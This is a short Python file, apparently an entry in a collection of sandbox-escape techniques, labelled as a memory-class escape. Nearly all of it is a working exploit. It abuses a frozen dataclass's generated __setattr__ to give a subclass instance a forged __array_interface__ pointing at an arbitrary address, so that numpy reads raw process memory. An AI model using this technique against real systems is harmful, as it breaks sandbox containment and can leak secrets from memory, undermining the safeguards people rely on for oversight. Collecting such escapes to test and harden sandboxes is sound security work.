"""Class: memory. Source: own find. Escape: a frozen dataclass's generated __setattr__ sets any name on
an instance of a subclass, also one that numpy takes for an address."""

from dataclasses import dataclass

import numpy as np


@dataclass(frozen=True)
class A:
    x: int


class B(A):
    pass


def attack(model, tokenizer, address):
    b = B(1)
    interface = {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    A.__setattr__(b, "__array_interface__", interface)
    return np.array(b).tobytes()
